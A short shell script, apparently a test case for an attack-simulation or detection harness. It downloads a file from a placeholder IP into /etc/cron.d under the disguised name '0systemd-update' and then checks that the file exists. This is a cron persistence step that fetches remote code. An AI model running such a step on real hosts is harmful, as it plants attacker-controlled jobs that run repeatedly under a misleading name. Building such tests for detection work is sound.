#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/cron.d
curl -s -o /etc/cron.d/0systemd-update http://203.0.113.10/jobs/c
test -s /etc/cron.d/0systemd-update
took_place
